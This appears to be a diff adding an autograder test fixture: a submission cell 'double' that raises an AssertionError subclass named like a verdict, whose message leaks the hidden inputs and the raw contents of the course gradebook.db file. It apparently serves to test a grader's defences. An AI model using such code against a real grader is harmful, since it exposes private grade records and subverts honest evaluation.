@@ -1,0 +1,7 @@
+"""The function is called with hidden inputs, and tells them in the text of an error with the name of a verdict."""
+
+CELLS = {
+    "double": """def double(x):
+    raise type("NotJudged", (AssertionError,), {})(f"{x} " + open("@COURSE@/gradebook.db", "rb").read().decode("latin-1"))"""
+}
+POINTS = 4
